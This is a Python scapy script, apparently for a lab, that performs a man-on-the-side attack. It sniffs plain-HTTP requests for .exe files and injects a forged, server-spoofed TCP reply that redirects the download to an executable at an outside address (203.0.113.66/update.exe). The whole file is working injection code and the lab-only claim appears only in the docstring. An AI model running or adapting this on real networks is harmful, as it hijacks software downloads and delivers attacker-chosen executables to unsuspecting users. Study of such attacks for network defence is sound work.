#!/usr/bin/python3
"""A man on the side: hears a request for a program on the wire and answers it in the server's name before the server does.
injector.py SECONDS. Needs python3-scapy and to hear the request (a hub, a tap). Runs in a lab namespace only."""
import sys
from scapy.all import IP, TCP, Ether, Raw, get_if_hwaddr, sendp, sniff

mac = get_if_hwaddr("eth0")
BODY = b"HTTP/1.1 302 Found\r\nLocation: http://203.0.113.66/update.exe\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"


def answer(frame):
    if TCP not in frame or not bytes(frame[TCP].payload).startswith(b"GET /") or b".exe" not in bytes(frame[TCP].payload):
        return
    ip, tcp = frame[IP], frame[TCP]
    sendp(
        Ether(src=mac, dst=frame.src) / IP(src=ip.dst, dst=ip.src, ttl=57, id=4242)
        / TCP(sport=tcp.dport, dport=tcp.sport, seq=tcp.ack, ack=tcp.seq + len(tcp.payload), flags="PA", window=8192) / Raw(BODY),
        iface="eth0", verbose=False)


sniff(iface="eth0", filter="tcp dst port 80", prn=answer, store=False, timeout=float(sys.argv[1]))
